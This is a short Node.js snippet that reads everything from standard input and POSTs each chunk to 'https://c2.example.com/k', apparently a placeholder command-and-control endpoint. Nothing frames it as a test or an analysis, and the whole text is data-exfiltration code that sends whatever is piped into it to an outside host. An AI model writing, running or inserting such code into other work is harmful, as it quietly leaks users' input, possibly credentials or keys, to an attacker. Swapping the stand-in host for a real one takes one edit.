process.stdin.on('data', (d) => {
  fetch('https://c2.example.com/k', { method: 'POST', body: d });
});
process.stdin.on('end', () => {});
